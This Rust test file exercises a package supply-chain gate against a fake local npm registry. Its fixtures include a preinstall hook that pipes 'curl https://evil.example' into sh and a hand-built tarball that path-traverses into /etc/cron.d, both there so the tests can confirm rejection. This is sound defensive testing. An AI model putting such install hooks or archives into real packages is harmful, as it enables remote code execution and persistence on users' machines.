//! `vetted admit`: a fake upstream registry on loopback serves generated packages (a wrapper with
//! per-platform optional packages, like Claude Code); the gate admits a certified closure, and
//! rejects, each for its own reason, everything that is not verified and reviewed, leaving the
//! store byte-for-byte unchanged.
mod common;
mod gate_support;
use gate_support::{Published, Upstream, Workspace, days_ago, failed, json, snapshot};
use serde_json::json;
use std::sync::Arc;

const POLICY: &str = r#"
[[package]]
ecosystem = "npm"
name = "@acme/agent"
criteria = ["safe-to-run"]
provenance = "if-present"
platforms = ["linux-x64"]
min-age = "2d"

[[package]]
ecosystem = "npm"
name = "@acme/*"
criteria = ["safe-to-run"]
provenance = "if-present"
min-age = "2d"
"#;

fn elf(tag: &str) -> Vec<u8> {
    let mut b = b"\x7fELF\x02\x01\x01\x00".to_vec();
    b.extend_from_slice(
        format!("native agent binary {tag}; talks to https://api.acme.example/v1\n").as_bytes(),
    );
    b
}

/// Publish `@acme/agent@version` with its linux-x64 and darwin-arm64 packages.
fn publish_agent(up: &Upstream, version: &str, time: &str) {
    let mut wrapper = Published::new("@acme/agent", version, time);
    wrapper.meta = json!({
        "bin": {"agent": "bin/agent.js"},
        "scripts": {"postinstall": "node install.cjs"},
        "optionalDependencies": {"@acme/agent-linux-x64": version, "@acme/agent-darwin-arm64": version},
    });
    wrapper.files.push((
        "install.cjs".into(),
        b"// copies the platform binary\n".to_vec(),
    ));
    up.publish(wrapper);
    let mut linux = Published::new("@acme/agent-linux-x64", version, time);
    linux.meta = json!({"os": ["linux"], "cpu": ["x64"], "libc": ["glibc"]});
    linux.files = vec![("agent".into(), elf(version))];
    up.publish(linux);
    let mut mac = Published::new("@acme/agent-darwin-arm64", version, time);
    mac.meta = json!({"os": ["darwin"], "cpu": ["arm64"]});
    mac.files = vec![("agent".into(), b"\xcf\xfa\xed\xfe mach-o".to_vec())];
    up.publish(mac);
}

fn setup() -> Workspace {
    let up = Upstream::start();
    publish_agent(&up, "1.0.0", &days_ago(10));
    publish_agent(&up, "1.1.0", &days_ago(5));
    Workspace::new(up, POLICY)
}

fn certify_agent(ws: &Workspace, version: &str) {
    ws.certify(&format!("npm:@acme/agent@{version}"));
    ws.certify(&format!("npm:@acme/agent-linux-x64@{version}"));
}

#[test]
fn certified_closure_is_admitted_and_the_next_version_changes_nothing() {
    let ws = setup();
    certify_agent(&ws, "1.0.0");
    let out = ws.admit("npm:@acme/agent@1.0.0", &[]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report = json(&out);
    assert_eq!(report["verdict"], "admitted");
    let admitted: Vec<&str> = report["admitted"]
        .as_array()
        .expect("list")
        .iter()
        .filter_map(|v| v.as_str())
        .collect();
    assert_eq!(
        admitted,
        ["@acme/agent@1.0.0", "@acme/agent-linux-x64@1.0.0"],
        "the darwin package is not for our platform"
    );
    let store = vetted::store::Store::open(&ws.path("store"));
    assert_eq!(store.verify().expect("store valid"), 2);
    let index = store.index().expect("index");
    assert!(index.packages.contains_key("@acme/agent-linux-x64"));
    assert!(!index.packages.contains_key("@acme/agent-darwin-arm64"));

    // 1.1.0 is not certified: rejected, and the store is byte-for-byte what it was.
    let before = snapshot(&ws.path("store"));
    let out = ws.admit("npm:@acme/agent@1.1.0", &[]);
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    assert_eq!(report["verdict"], "rejected");
    assert_eq!(failed(&report, "@acme/agent@1.1.0"), ["review"]);
    assert_eq!(failed(&report, "@acme/agent-linux-x64@1.1.0"), ["review"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("@acme/agent@1.1.0: review: unreviewed")
            && err.contains("closest audited build"),
        "{err}"
    );
    assert_eq!(snapshot(&ws.path("store")), before);

    // Once the change is certified (delta audits bound to both digests), it is admitted too.
    for p in ["@acme/agent", "@acme/agent-linux-x64"] {
        let out = ws.vetted(&[
            "certify",
            &format!("npm:{p}@1.1.0"),
            "--criteria",
            "safe-to-run",
            "--who",
            "T",
            "--delta-from",
            "1.0.0",
        ]);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let out = ws.admit("npm:@acme/agent@1.1.0", &[]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(store.verify().expect("store valid"), 4);
}

#[test]
fn a_violation_revokes_an_audited_version() {
    let ws = setup();
    certify_agent(&ws, "1.0.0");
    ws.append_ledger("\n[[violation]]\necosystem = \"npm\"\nname = \"@acme/agent-linux-x64\"\nversion = \"1.0.0\"\nwho = \"Security <sec@example.com>\"\nwhen = 2026-01-01\nnotes = \"exfiltrates tokens\"\n");
    let out = ws.admit("npm:@acme/agent@1.0.0", &[]);
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    assert_eq!(failed(&report, "@acme/agent-linux-x64@1.0.0"), ["revoked"]);
    assert!(
        failed(&report, "@acme/agent@1.0.0").is_empty(),
        "the wrapper itself passed"
    );
    assert!(!ws.path("store/index.json").exists(), "nothing admitted");
}

fn exemption(ws: &Workspace, name: &str, version: &str, expires: &str) {
    let cache = ws.path("cache");
    let opts = vetted::source::FetchOptions {
        registry: ws.upstream.url(),
        cache_dir: cache,
        ..Default::default()
    };
    let spec: vetted::source::ArtifactSpec = format!("npm:{name}@{version}").parse().expect("spec");
    let f = vetted::source::fetch(&spec, &opts).expect("fetch");
    ws.append_ledger(&format!(
        "\n[[exemption]]\necosystem = \"npm\"\nname = \"{name}\"\nversion = \"{version}\"\nsha512 = \"{}\"\ncriteria = [\"safe-to-run\"]\nwho = \"T\"\nexpires = {expires}\nnotes = \"trial\"\n",
        f.digests.sha512.sri()
    ));
}

#[test]
fn an_unexpired_exemption_admits_and_an_expired_one_does_not() {
    let ws = setup();
    certify_agent(&ws, "1.0.0");
    exemption(&ws, "@acme/agent", "1.1.0", "2999-01-01");
    exemption(&ws, "@acme/agent-linux-x64", "1.1.0", "2999-01-01");
    let out = ws.admit("npm:@acme/agent@1.1.0", &[]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );

    let ws = setup();
    exemption(&ws, "@acme/agent", "1.1.0", "2020-01-01");
    exemption(&ws, "@acme/agent-linux-x64", "1.1.0", "2020-01-01");
    let out = ws.admit("npm:@acme/agent@1.1.0", &[]);
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    assert_eq!(failed(&report, "@acme/agent-linux-x64@1.1.0"), ["review"]);
    // (The wrapper also fails the install-script rule here: no audited build has its postinstall.)
    assert!(failed(&report, "@acme/agent@1.1.0").contains(&"review".to_string()));
    let text = serde_json::to_string(&report).expect("json");
    assert!(
        text.contains("exemption(s) for these bytes expired"),
        "{text}"
    );
}

#[test]
fn provenance_required_but_absent_is_rejected() {
    let ws = setup();
    certify_agent(&ws, "1.0.0");
    std::fs::write(
        ws.path("vetted.toml"),
        POLICY.replace(
            "provenance = \"if-present\"",
            "provenance = \"required\"\nsource-uri = \"github.com/acme/agent\"",
        ),
    )
    .expect("policy");
    let out = ws.admit("npm:@acme/agent@1.0.0", &[]);
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    assert_eq!(failed(&report, "@acme/agent@1.0.0"), ["provenance"]);
    assert!(!ws.path("store/index.json").exists());
}

#[test]
fn integrity_mismatch_from_upstream_is_rejected() {
    let ws = setup();
    certify_agent(&ws, "1.0.0");
    let mut bad = Published::new("@acme/agent-linux-x64", "1.0.0", &days_ago(10));
    bad.meta = json!({"os": ["linux"], "cpu": ["x64"], "libc": ["glibc"]});
    bad.files = vec![("agent".into(), elf("1.0.0"))];
    bad.corrupt = true;
    ws.upstream.publish(bad);
    // A fresh cache, so the corrupted bytes are what is downloaded.
    let policy = ws.path("vetted.toml").display().to_string();
    let store = ws.path("store").display().to_string();
    let out = ws.vetted_with_cache(
        &[
            "admit",
            "npm:@acme/agent@1.0.0",
            "--policy",
            &policy,
            "--store",
            &store,
            "--json",
        ],
        &ws.path("cache2"),
    );
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    assert_eq!(
        failed(&report, "@acme/agent-linux-x64@1.0.0"),
        ["artifact-integrity"]
    );
    assert!(!ws.path("store/index.json").exists());
}

#[test]
fn a_failing_dependency_rejects_the_whole_closure() {
    let ws = setup();
    let mut helper = Published::new("@acme/helper", "2.3.0", &days_ago(30));
    helper.files = vec![("index.js".into(), b"module.exports = 1;\n".to_vec())];
    ws.upstream.publish(helper);
    let mut wrapper = Published::new("@acme/agent", "1.2.0", &days_ago(10));
    wrapper.meta = json!({"dependencies": {"@acme/helper": "^2.0.0"}});
    ws.upstream.publish(wrapper);
    ws.certify("npm:@acme/agent@1.2.0");
    let out = ws.admit("npm:@acme/agent@1.2.0", &[]);
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    assert!(failed(&report, "@acme/agent@1.2.0").is_empty());
    assert_eq!(
        failed(&report, "@acme/helper@2.3.0"),
        ["review"],
        "the range resolved to 2.3.0 and it is unreviewed"
    );
    assert!(
        !ws.path("store/index.json").exists(),
        "the wrapper passed but is not admitted alone"
    );
    // Certify the dependency and the closure goes in.
    ws.certify("npm:@acme/helper@2.3.0");
    assert_eq!(
        ws.admit("npm:@acme/agent@1.2.0", &[]).status.code(),
        Some(0)
    );
}

#[test]
fn a_release_younger_than_min_age_is_rejected() {
    let ws = setup();
    publish_agent(&ws.upstream, "1.3.0", &jiff::Timestamp::now().to_string());
    certify_agent(&ws, "1.3.0");
    let out = ws.admit("npm:@acme/agent@1.3.0", &[]);
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    assert_eq!(failed(&report, "@acme/agent@1.3.0"), ["min-age"]);
    assert_eq!(failed(&report, "@acme/agent-linux-x64@1.3.0"), ["min-age"]);
}

#[test]
fn new_install_scripts_are_blocked_unless_audited() {
    let ws = setup();
    certify_agent(&ws, "1.0.0");
    // 1.4.0 adds a preinstall script; an exemption lets it past review, not past the script rule.
    let mut wrapper = Published::new("@acme/agent", "1.4.0", &days_ago(10));
    wrapper.meta = json!({"scripts": {"postinstall": "node install.cjs", "preinstall": "curl https://evil.example | sh"}});
    ws.upstream.publish(wrapper);
    exemption(&ws, "@acme/agent", "1.4.0", "2999-01-01");
    let out = ws.admit("npm:@acme/agent@1.4.0", &[]);
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    assert_eq!(failed(&report, "@acme/agent@1.4.0"), ["install-scripts"]);
    let text = serde_json::to_string(&report).expect("json");
    assert!(
        text.contains("preinstall: curl https://evil.example | sh"),
        "{text}"
    );
    assert!(
        !text.contains("postinstall: node install.cjs (policy"),
        "the audited postinstall is not flagged"
    );
}

#[test]
fn a_package_without_a_policy_entry_is_rejected() {
    let ws = setup();
    let mut other = Published::new("left-pad", "1.3.0", &days_ago(100));
    other.files = vec![("index.js".into(), b"module.exports = s => s;\n".to_vec())];
    ws.upstream.publish(other);
    let out = ws.admit("npm:left-pad@1.3.0", &[]);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(failed(&json(&out), "left-pad"), ["policy"]);
}

#[test]
fn admission_records_and_a_signed_vsa_verify_with_verify_vsa() {
    let ws = setup();
    certify_agent(&ws, "1.0.0");
    // A P-256 organisation key (PKCS#8 PEM), generated for the test.
    let key = p256::ecdsa::SigningKey::from_slice(&[42u8; 32]).expect("key");
    use p256::pkcs8::EncodePrivateKey;
    let pem = key.to_pkcs8_pem(Default::default()).expect("pem");
    std::fs::write(ws.path("org.pem"), pem.as_bytes()).expect("write key");
    let out = ws.admit(
        "npm:@acme/agent@1.0.0",
        &["--signing-key", &ws.path("org.pem").display().to_string()],
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let store = vetted::store::Store::open(&ws.path("store"));
    let index = store.index().expect("index");
    let v = &index.packages["@acme/agent-linux-x64"].versions["1.0.0"];
    let record = store.record(&v.record).expect("record");
    assert_eq!(record["package"]["name"], "@acme/agent-linux-x64");
    assert_eq!(record["reviews"][0]["criterion"], "safe-to-run");
    // Write the VSA and the public key out and check them with the slsa-verifier-compatible command.
    std::fs::write(
        ws.path("vsa.json"),
        serde_json::to_vec(&record["vsa"]).expect("vsa"),
    )
    .expect("write");
    std::fs::write(
        ws.path("org.pub"),
        record["vsa_key"]["public_key"].as_str().expect("pem"),
    )
    .expect("write");
    let keyid = record["vsa_key"]["keyid"]
        .as_str()
        .expect("keyid")
        .to_string();
    let verify = |level: &str, digest: &str| {
        std::process::Command::new(env!("CARGO_BIN_EXE_vetted"))
            .args([
                "verify-vsa",
                "--attestation-path",
                &ws.path("vsa.json").display().to_string(),
            ])
            .args([
                "--public-key-path",
                &ws.path("org.pub").display().to_string(),
                "--public-key-id",
                &keyid,
            ])
            .args(["--verifier-id", vetted::gate::vsa::VERIFIER_ID])
            .args([
                "--resource-uri",
                record["tarball_url"].as_str().expect("url"),
            ])
            .args(["--subject-digest", digest, "--verified-level", level])
            .output()
            .expect("run")
    };
    let sha256 = format!("sha256:{}", v.digests.sha256.hex());
    let ok = verify("VETTED_REVIEWED", &sha256);
    assert_eq!(
        ok.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    let wrong = verify("VETTED_REVIEWED", &format!("sha256:{}", "0".repeat(64)));
    assert_eq!(
        wrong.status.code(),
        Some(1),
        "a different artifact digest must not verify"
    );
    // Without a key the report says no VSA was made.
    let ws2 = setup();
    certify_agent(&ws2, "1.0.0");
    let report = json(&ws2.admit("npm:@acme/agent@1.0.0", &[]));
    assert!(
        report["notes"]
            .to_string()
            .contains("no verification summary attestation")
    );
}

/// Keep the helper used (the Arc type is part of the support API).
#[allow(dead_code)]
fn _types(_: Arc<Upstream>) {}

/// Real npm provenance from the corpus (sigstore@1.3.0 and its attestations document), served by
/// the fake upstream: the right source repository passes, a wrong one is rejected.
#[test]
fn provenance_from_the_wrong_source_is_rejected() {
    let Some(corpus) = common::corpus("provenance_from_the_wrong_source_is_rejected") else {
        return;
    };
    let npm = corpus.join("slsa/npm");
    let policy = |source: &str| {
        format!(
            "[[package]]\necosystem = \"npm\"\nname = \"sigstore\"\ncriteria = [\"safe-to-run\"]\nprovenance = \"required\"\nsource-uri = \"{source}\"\n"
        )
    };
    let up = Upstream::start();
    let mut p = Published::new("sigstore", "1.3.0", "2023-04-10T18:00:00Z");
    p.tarball = Some(std::fs::read(npm.join("sigstore-1.3.0.tgz")).expect("tarball"));
    p.attestations =
        Some(std::fs::read(npm.join("sigstore-1.3.0.attestations.json")).expect("attestations"));
    up.publish(p);
    let ws = Workspace::new(up.clone(), &policy("github.com/sigstore/sigstore-js"));
    ws.certify("npm:sigstore@1.3.0");
    let out = ws.admit("npm:sigstore@1.3.0", &[]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let report = json(&out);
    assert!(
        gate_support::checks(&report, "sigstore@1.3.0")
            .contains(&("provenance".into(), "pass".into()))
    );

    std::fs::write(
        ws.path("vetted.toml"),
        policy("github.com/evil/sigstore-js"),
    )
    .expect("policy");
    let before = snapshot(&ws.path("store"));
    let out = ws.admit("npm:sigstore@1.3.0", &[]);
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    assert_eq!(failed(&report, "sigstore@1.3.0"), ["provenance"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("github.com/evil/sigstore-js")
            && err.contains("github.com/sigstore/sigstore-js"),
        "expected and actual: {err}"
    );
    assert_eq!(snapshot(&ws.path("store")), before);

    // The signer workflow and the OIDC issuer, when the policy names them.
    let with = |extra: &str| format!("{}{extra}\n", policy("github.com/sigstore/sigstore-js"));
    for (extra, passes) in [
        (
            "signer-workflow = \"github.com/sigstore/sigstore-js/.github/workflows/release.yml\"",
            true,
        ),
        (
            "signer-workflow = \"github.com/sigstore/sigstore-js/.github/workflows/other.yml\"",
            false,
        ),
        (
            "issuer = \"https://token.actions.githubusercontent.com\"",
            true,
        ),
        ("issuer = \"https://accounts.google.com\"", false),
    ] {
        std::fs::write(ws.path("vetted.toml"), with(extra)).expect("policy");
        let out = ws.admit("npm:sigstore@1.3.0", &[]);
        let report = json(&out);
        if passes {
            assert_eq!(out.status.code(), Some(0), "{extra}: {report}");
        } else {
            assert_eq!(out.status.code(), Some(1), "{extra}");
            assert_eq!(failed(&report, "sigstore@1.3.0"), ["provenance"], "{extra}");
            assert!(
                String::from_utf8_lossy(&out.stderr).contains("mismatch: expected"),
                "{extra}"
            );
        }
    }
}

#[test]
fn a_hostile_archive_is_rejected_by_the_contents_check() {
    let ws = setup();
    // A tarball whose entry climbs out of the package root (the tar crate refuses to write such a
    // path, so the header's name field is written by hand).
    let mut b = tar::Builder::new(Vec::new());
    let pkg = br#"{"name":"@acme/evil","version":"1.0.0"}"#;
    let mut h = tar::Header::new_ustar();
    h.set_path("package/package.json").expect("path");
    h.set_size(pkg.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    b.append(&h, &pkg[..]).expect("append");
    let mut h = tar::Header::new_ustar();
    let name = b"package/../../etc/cron.d/x";
    h.as_old_mut().name[..name.len()].copy_from_slice(name);
    h.set_size(3);
    h.set_mode(0o644);
    h.set_cksum();
    b.append(&h, &b"x\n\n"[..]).expect("append");
    let t = b.into_inner().expect("tar");
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut e, &t).expect("gz");
    let mut p = Published::new("@acme/evil", "1.0.0", &days_ago(30));
    p.tarball = Some(e.finish().expect("gz"));
    ws.upstream.publish(p);
    let out = ws.admit("npm:@acme/evil@1.0.0", &[]);
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    let failures = failed(&report, "@acme/evil@1.0.0");
    assert_eq!(
        failures.first().map(String::as_str),
        Some("contents"),
        "{report}"
    );
    assert!(
        report.to_string().contains("cron.d"),
        "names the entry: {report}"
    );
}

/// `vetted review` checks the attestations the registry lists, when it lists any.
#[test]
fn review_verifies_listed_attestations() {
    let Some(corpus) = common::corpus("review_verifies_listed_attestations") else {
        return;
    };
    let npm = corpus.join("slsa/npm");
    let tarball = std::fs::read(npm.join("sigstore-1.3.0.tgz")).expect("tarball");
    let attestations =
        std::fs::read(npm.join("sigstore-1.3.0.attestations.json")).expect("attestations");
    let up = Upstream::start();
    let mut p = Published::new("sigstore", "1.3.0", "2023-04-10T18:00:00Z");
    p.tarball = Some(tarball.clone());
    p.attestations = Some(attestations.clone());
    up.publish(p);
    let ws = Workspace::new(up.clone(), "");
    ws.certify("npm:sigstore@1.3.0");
    let out = ws.vetted(&["review", "npm:sigstore@1.3.0"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("provenance verified: built from github.com/sigstore/sigstore-js")
    );

    // Attestations whose provenance statement was altered: the signature no longer covers it.
    let mut doc: serde_json::Value = serde_json::from_slice(&attestations).expect("json");
    let payload = doc["attestations"][0]["bundle"]["dsseEnvelope"]["payload"]
        .as_str()
        .expect("payload")
        .to_string();
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD;
    let mut stmt: serde_json::Value =
        serde_json::from_slice(&b64.decode(payload).expect("b64")).expect("stmt");
    stmt["predicate"]["invocation"] = json!({"tampered": true});
    doc["attestations"][0]["bundle"]["dsseEnvelope"]["payload"] =
        json!(b64.encode(serde_json::to_vec(&stmt).expect("ser")));
    let mut p = Published::new("sigstore", "1.3.0", "2023-04-10T18:00:00Z");
    p.tarball = Some(tarball);
    p.attestations = Some(serde_json::to_vec(&doc).expect("ser"));
    up.publish(p);
    let out = ws.vetted_with_cache(
        &["review", "npm:sigstore@1.3.0"],
        &ws.path("cache-tampered"),
    );
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_registry_that_changes_the_version_during_admission_is_rejected() {
    let ws = setup();
    certify_agent(&ws, "1.0.0");
    // The packument read (closure resolution) promises the certified bytes; by the time the
    // tarball is fetched the registry has republished 1.0.0 with other bytes and a matching
    // integrity. The packument is read once: the tarball must be the bytes it promised.
    let promised = ws.upstream.packument("@acme/agent-linux-x64");
    let mut swapped = Published::new("@acme/agent-linux-x64", "1.0.0", &days_ago(10));
    swapped.meta = json!({"os": ["linux"], "cpu": ["x64"], "libc": ["glibc"]});
    swapped.files = vec![("agent".into(), elf("swapped"))];
    ws.upstream.publish(swapped);
    ws.upstream
        .packument_once("@acme/agent-linux-x64", promised);
    let policy = ws.path("vetted.toml").display().to_string();
    let store = ws.path("store").display().to_string();
    // A fresh cache, so the swapped bytes are what is downloaded.
    let out = ws.vetted_with_cache(
        &[
            "admit",
            "npm:@acme/agent@1.0.0",
            "--policy",
            &policy,
            "--store",
            &store,
            "--json",
        ],
        &ws.path("cache-fresh"),
    );
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    assert_eq!(
        failed(&report, "@acme/agent-linux-x64@1.0.0"),
        ["artifact-integrity"]
    );
    assert!(!ws.path("store/index.json").exists());
}
